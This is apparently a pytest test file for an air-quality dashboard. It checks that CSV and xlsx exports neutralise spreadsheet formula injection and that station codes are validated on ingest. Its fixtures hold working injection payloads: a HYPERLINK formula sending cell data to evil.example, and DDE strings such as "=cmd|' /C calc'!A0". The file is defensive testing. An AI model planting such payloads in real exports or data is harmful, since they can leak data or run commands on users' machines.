"""Formula (CSV) injection (security issue 13): exports neutralise cells a spreadsheet would run,
and station codes are checked on ingest.

Every dashboard export is enumerated from its registry (a new export is covered without
editing this file) and built from a copy of the SYNTHETIC demo database whose station and
district names are formulas. The command line's CSV and xlsx outputs are checked on a small
city whose station codes were made formulas directly in the database (a database filled
before codes were checked).
"""
from __future__ import annotations

import csv
import io
import re

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, update

import dashboard.app  # noqa: F401  (imports the pages: fills the export registry)
from config import ConfigError
from config.sites import STATION_CODE, is_station_code, load_site_config, parse_site_config
from dashboard.exports import EXPORTS
from ingest.errors import IngestError
from store import schema
from store.export_safety import FORMULA_STARTS, PLAIN_NUMBER, neutralise_formulas
from tests.conftest import BEIJING_SITES, ROOT, TEST_DATA
from tests.dash_helpers import TEST_CITY_SITE, sqlite_copy, staff_client

EVIL_STATION_ZH = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
EVIL_STATION_EN = '=HYPERLINK("http://evil.example","click")'
EVIL_DISTRICT_ZH = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_DISTRICT_EN = "+1+cmd|' /C calc'!A0"
CALC = "=cmd|' /C calc'!A0"


def dangerous(value) -> bool:
    """Text a spreadsheet would read as a formula (a plain signed number is a value)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) \
        and re.fullmatch(PLAIN_NUMBER, value) is None


# --------------------------------------------------------------------------- the neutraliser

TEXT_DTYPES = ("str", "object", "string", "category")


def one_column(values, dtype) -> pd.DataFrame:
    return pd.DataFrame({"c": pd.Series(values, dtype=dtype)})


@settings(max_examples=300, deadline=None)
@given(first=st.sampled_from(FORMULA_STARTS), rest=st.text(max_size=40),
       dtype=st.sampled_from(TEXT_DTYPES))
def test_text_starting_with_a_formula_character_is_neutralised(first, rest, dtype):
    value = first + rest
    out = neutralise_formulas(one_column([value, "plain"], dtype))
    expected = value if re.fullmatch(PLAIN_NUMBER, value) else "'" + value
    assert out["c"].tolist() == [expected, "plain"]
    assert str(out["c"].dtype) == str(pd.Series(["x"], dtype=dtype).dtype)


@settings(max_examples=300, deadline=None)
@given(value=st.text(max_size=40).filter(lambda s: not s.startswith(FORMULA_STARTS)),
       dtype=st.sampled_from(TEXT_DTYPES))
def test_other_text_is_unchanged(value, dtype):
    frame = one_column([value, None], dtype)
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)


@settings(max_examples=200, deadline=None)
@given(floats=st.lists(st.floats(), min_size=1, max_size=20),
       ints=st.lists(st.integers(-2**63, 2**63 - 1), min_size=1, max_size=20))
def test_numbers_are_unchanged(floats, ints):
    frame = pd.DataFrame({"f": pd.Series(floats, dtype="float64")})
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)
    frame = pd.DataFrame({"i": pd.Series(ints, dtype="int64"),
                          "n": pd.array([ints[0], None], dtype="Int64").take([0] * len(ints))})
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)


@given(number=st.one_of(st.integers(-10**9, 10**9), st.floats(allow_nan=False)),
       text=st.text(max_size=20))
def test_mixed_columns_keep_their_numbers(number, text):
    frame = pd.DataFrame({"m": pd.Series([number, "-" + text, None, pd.Timestamp("2024-01-01")],
                                         dtype=object)})
    out = neutralise_formulas(frame)["m"].tolist()
    assert out[0] == number or (number != number)
    assert type(out[0]) is type(number)
    assert out[1] == ("-" + text if re.fullmatch(PLAIN_NUMBER, "-" + text) else "'-" + text)
    assert out[2] is None and out[3] == pd.Timestamp("2024-01-01")


def test_headers_booleans_dates_and_the_input_frame():
    frame = pd.DataFrame({"=SUM(A1)": ["@x"], "ok": [True], "-1": [pd.Timestamp("2024-01-01")],
                          "\tname": [-3.5]})
    before = frame.copy()
    out = neutralise_formulas(frame)
    assert list(out.columns) == ["'=SUM(A1)", "ok", "-1", "'\tname"]
    assert out.iloc[0].tolist() == ["'@x", True, pd.Timestamp("2024-01-01"), -3.5]
    assert list(out.dtypes) == list(frame.dtypes)
    pd.testing.assert_frame_equal(frame, before)            # a copy; the input is untouched


def test_published_numbers_as_text_stay_as_they_are():
    """The ranking export writes numbers as published text ("-6.1", "7.60")."""
    values = ["-6.1", "+2.50", "-1e-3", "7.60", "-", "-6.1%", "- 6", "-1+2", "+A1", "-.5"]
    out = neutralise_formulas(one_column(values, "str"))["c"].tolist()
    assert out == ["-6.1", "+2.50", "-1e-3", "7.60", "'-", "'-6.1%", "'- 6", "'-1+2", "'+A1",
                   "-.5"]


# --------------------------------------------------------------------------- dashboard exports

@pytest.fixture(scope="module")
def evil_app(demo_db_url, tmp_path_factory):
    """The dashboard on a copy of the demo database whose names are formulas."""
    from dashboard.app import create_app
    from store.db import make_engine
    url = sqlite_copy(demo_db_url, tmp_path_factory.mktemp("formulas"))
    engine = make_engine(url)
    with engine.begin() as conn:
        conn.execute(update(schema.stations).values(name_zh=EVIL_STATION_ZH,
                                                    name_en=EVIL_STATION_EN))
        conn.execute(update(schema.districts).values(name_zh=EVIL_DISTRICT_ZH,
                                                     name_en=EVIL_DISTRICT_EN))
    engine.dispose()
    return create_app(url, cache_url="")


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def check_xlsx(data: bytes) -> list:
    """All cell values of a workbook, after checking none is a formula or formula-like text."""
    values = []
    for sheet in openpyxl.load_workbook(io.BytesIO(data)):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                assert not dangerous(cell.value), (cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_the_export_registry_is_filled():
    assert len(EXPORTS) >= 6


# Exports whose rows show station or district names (the neutraliser must have acted there).
SHOW_NAMES = {"map", "ranking", "district-ledger", "exceedances", "objectives"}


@pytest.mark.parametrize("name", sorted(EXPORTS))
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_dashboard_export_is_spreadsheet_safe(evil_app, name, lang):
    client = staff_client(evil_app, "analyst")
    query = f"city=yangquan-demo&station=SYN01&level=station&lang={lang}"
    response = client.get(f"/export/{name}.csv?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    cells = csv_cells(response.data)
    assert len(cells) > 1
    bad = [c for c in cells if dangerous(c)]
    assert not bad, bad[:5]

    response = client.get(f"/export/{name}.xlsx?{query}")
    assert response.status_code == 200
    values = check_xlsx(response.data)
    if name in SHOW_NAMES:
        neutralised = [c for c in cells if c.startswith("'") and dangerous(c[1:])]
        assert neutralised, f"{name}: no name was exported, the test proves nothing"
        assert any(isinstance(v, str) and v.startswith("'") and dangerous(v[1:]) for v in values)
    # numbers stay numbers in the workbook (the ranking publishes its numbers as text)
    assert name == "ranking" or any(isinstance(v, (int, float)) and not isinstance(v, bool)
                                    for v in values)


# --------------------------------------------------------------------------- command line

SITE = TEST_CITY_SITE
LEGACY_CODES = {"T01": CALC, "T02": "@SUM(1+1)"}


@pytest.fixture
def legacy_city(cli, db_url, tmp_path):
    """A small city whose station codes were made formulas in the database directly."""
    from store.db import make_engine
    site = tmp_path / "test.yaml"
    site.write_text(SITE, encoding="utf-8")
    assert cli("init", "--sites", site).exit_code == 0
    rows = [(s, f"2024-01-0{d} {h:02d}:00", p, v) for s in ("T01", "T02") for d in (1, 2)
            for h in range(24) for p, v in (("NO2", 45), ("PM2.5", 60))]
    data = tmp_path / "readings.csv"
    pd.DataFrame(rows, columns=["station", "time", "pollutant", "value"]).to_csv(data, index=False)
    assert cli("ingest", "csv", data, "--strict", "--quiet").exit_code == 0
    engine = make_engine(db_url)
    with engine.begin() as conn:
        for old, new in LEGACY_CODES.items():
            conn.execute(update(schema.stations).where(schema.stations.c.code == old)
                         .values(code=new))
    engine.dispose()
    return cli


def check_csv_text(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    bad = [c for row in rows for c in row if dangerous(c)]
    assert not bad, bad[:5]
    assert any("'" + CALC in row for row in rows), "the formula code was not exported"
    return rows


@pytest.mark.parametrize("args", [
    ("status", "--format", "csv"),
    ("stats", "daily", "--from", "2024-01-01", "--to", "2024-01-02", "--level", "station"),
    ("stats", "annual", "--year", "2024", "--level", "station"),
    ("rank", "--year", "2024", "--level", "station", "--by", "NO2", "--format", "csv"),
])
def test_cli_csv_on_stdout_is_spreadsheet_safe(legacy_city, args):
    result = legacy_city(*args)
    assert result.exit_code == 0, result.output
    check_csv_text(result.stdout)


@pytest.mark.parametrize("command", [
    ("stats", "daily", "--from", "2024-01-01", "--to", "2024-01-02", "--level", "station"),
    ("stats", "annual", "--year", "2024", "--level", "station"),
])
def test_cli_out_files_are_spreadsheet_safe(legacy_city, tmp_path, command):
    out = tmp_path / "out.csv"
    assert legacy_city(*command, "--format", "csv", "--out", out).exit_code == 0
    check_csv_text(out.read_text(encoding="utf-8"))

    book = tmp_path / "out.xlsx"
    result = legacy_city(*command, "--format", "xlsx", "--out", book)
    assert result.exit_code == 0, result.output
    data = book.read_bytes()
    values = check_xlsx(data)
    assert "'" + CALC in values
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    value_col = header.index("value") + 1
    numbers = [sheet.cell(row=r, column=value_col) for r in range(2, sheet.max_row + 1)]
    numbers = [c for c in numbers if c.value is not None]       # empty: not valid
    assert numbers and all(c.data_type == "n" for c in numbers)   # numbers stay numbers

    # JSON is data, not a spreadsheet: the stored code is given as it is
    result = legacy_city(*command, "--format", "json")
    assert CALC in pd.read_json(io.StringIO(result.stdout))["area"].tolist()


# --------------------------------------------------------------------------- codes on ingest

def test_station_code_rule():
    for code in ("1001A", "3201A", "SYN01", "openaq-2178", "T_01", "a", "A" * 32):
        assert is_station_code(code), code
    for code in ("", " 1001A", "1001A ", "-1001A", "_x", CALC, "@SUM(1)", "+1", "A B", "1001Ａ",
                 "Тест", "1001A\n", "A" * 33, "a|b", None, 1001):
        assert not is_station_code(code), code


@pytest.mark.realdata
def test_every_real_code_is_valid(shared_data):
    from ingest.cnemc import read_station_list
    from ingest.prsa import PRSA_STATIONS
    codes = set(read_station_list(shared_data / "cnemc-sites" / "NewSiteList.csv")["code"])
    for path in sorted((shared_data / "cnemc-live").glob("*/*.csv")):
        codes |= set(pd.read_csv(path, dtype={"stationcode": str})["stationcode"])
    codes |= set(PRSA_STATIONS.values())
    for site_file in sorted((ROOT / "config" / "sites").glob("*.yaml")):
        codes |= {s.code for s in load_site_config(site_file).stations}
    assert len(codes) > 2000
    assert sorted(c for c in codes if not STATION_CODE.fullmatch(c)) == []


def long_csv(tmp_path, station: str, name: str = "readings.csv"):
    path = tmp_path / name
    path.write_text("station,time,pollutant,value\n"
                    "1003A,2024-01-01 00:00,NO2,40\n"
                    f"{station},2024-01-01 01:00,NO2,41\n", encoding="utf-8")
    return path


def counts(engine):
    with engine.connect() as conn:
        return tuple(conn.execute(select(func.count()).select_from(t)).scalar()
                     for t in (schema.hourly, schema.stations))


def test_cli_refuses_a_formula_station_code_and_stores_nothing(engine, cli, tmp_path):
    assert cli("init", "--sites", BEIJING_SITES).exit_code == 0
    before = counts(engine)
    path = long_csv(tmp_path, CALC)
    result = cli("ingest", "csv", path)
    assert result.exit_code == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.output
    line = " ".join(lines[0].split())
    assert str(path) in lines[0] and "row 3" in line and "column 'station'" in line
    assert "is not a valid station code" in line and "letters, digits" in line
    assert "correct the code in the file" in line
    assert counts(engine) == before
    with engine.connect() as conn:
        run = conn.execute(select(schema.ingest_runs.c.status)
                           .order_by(schema.ingest_runs.c.id.desc())).scalar()
    assert run == "failed"


def test_a_huge_bad_code_is_quoted_short(tmp_path):
    from ingest.csvfile import read_csv
    with pytest.raises(IngestError) as info:
        read_csv(long_csv(tmp_path, "=" + "A" * 100_000))
    message = str(info.value)
    assert "\n" not in message and len(message) < 1000 and "…" in message
    assert "row 3" in message


def test_wide_station_option_is_checked(tmp_path):
    from ingest.readers import reader_for
    with pytest.raises(IngestError, match="--station.*not a valid station code"):
        reader_for("csv", layout="wide", station="@SUM(1)")
    from ingest.csvfile import read_csv
    path = tmp_path / "wide.csv"
    path.write_text("time,NO2\n2024-01-01 00:00,40\n", encoding="utf-8")
    with pytest.raises(IngestError, match="not a valid station code"):
        read_csv(path, layout="wide", station="+1+cmd|x!A0")


def test_cnemc_header_and_station_list_codes_are_checked(tmp_path):
    from ingest.cnemc import read_cnemc, read_station_list
    bad = tmp_path / "china_sites_20150101.csv"
    text = (TEST_DATA / "cnemc" / "china_sites_20150101.csv").read_text(encoding="utf-8")
    bad.write_text(text.replace("1011A", "=1+1", 1), encoding="utf-8")
    with pytest.raises(IngestError) as info:
        read_cnemc(bad)
    assert info.value.row == 1 and "'=1+1' is not a valid station code" in str(info.value)

    listing = tmp_path / "NewSiteList.csv"
    listing.write_text("监测点编码,监测点名称,城市,经度,纬度,对照点,省级行政区,地级行政区\n"
                       "1001A,万寿西宫,北京,116.3621,39.8784,N,北京市,北京市\n"
                       "@1002A,定陵,北京,116.2202,40.2915,Y,北京市,北京市\n", encoding="gbk")
    with pytest.raises(IngestError) as info:
        read_station_list(listing)
    assert info.value.row == 3 and info.value.column == "监测点编码"


def test_site_file_codes_are_checked(tmp_path):
    data = {"city": {"id": "c", "name_zh": "城", "name_en": "C"},
            "districts": [{"id": "d", "name_zh": "区", "name_en": "D"}],
            "stations": [{"code": CALC, "name_zh": "站", "district": "d"}]}
    with pytest.raises(ConfigError) as info:
        parse_site_config(data, tmp_path / "site.yaml")
    assert info.value.key == "stations[0].code" and "is not a station code" in str(info.value)
    data["stations"][0]["code"] = "X" * 5000
    with pytest.raises(ConfigError) as info:
        parse_site_config(data, tmp_path / "site.yaml")
    assert len(str(info.value)) < 600


def test_openaq_station_option_is_checked():
    from ingest.openaq_sources import parse_location
    assert parse_location({"id": 2178, "station": "1011A"}, "s.yaml", "l").station == "1011A"
    with pytest.raises(ConfigError, match="is not a station code"):
        parse_location({"id": 2178, "station": "=A1"}, "s.yaml", "sources[0].locations[0]")


def test_the_loader_refuses_to_create_a_station_with_a_bad_code(engine):
    """Frames from any other source (not a file reader) are stopped before a station is made."""
    from ingest.frame import long_from_wide
    from ingest.loader import LoadResult, load_frame, start_run
    times = pd.date_range("2024-01-01", periods=3, freq="h").to_numpy("datetime64[s]")
    frame = long_from_wide(times, CALC, {"NO2": (np.ones(3), np.zeros(3, bool),
                                                 np.zeros(3, bool))})
    result = LoadResult(file="mem", reader="test")
    result.run_id, _ = start_run(engine, "test", "mem", "mem", {})
    before = counts(engine)
    with pytest.raises(IngestError, match="new station code .* is not a valid station code"):
        with engine.begin() as conn:
            load_frame(conn, frame, result)
    assert counts(engine) == before
